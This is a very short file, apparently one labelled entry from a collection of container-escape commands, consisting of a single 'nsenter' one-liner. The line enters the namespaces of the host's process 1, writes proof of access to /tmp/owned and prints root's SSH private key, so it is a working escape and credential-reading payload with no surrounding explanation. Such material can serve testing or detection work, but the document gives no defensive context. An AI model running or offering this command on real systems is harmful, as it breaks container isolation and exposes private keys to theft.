# class: escape, namespaces of process 1; style: one-liner
nsenter --target 1 --mount --uts --ipc --net --pid -- bash -c 'id > /tmp/owned; cat /root/.ssh/id_rsa'
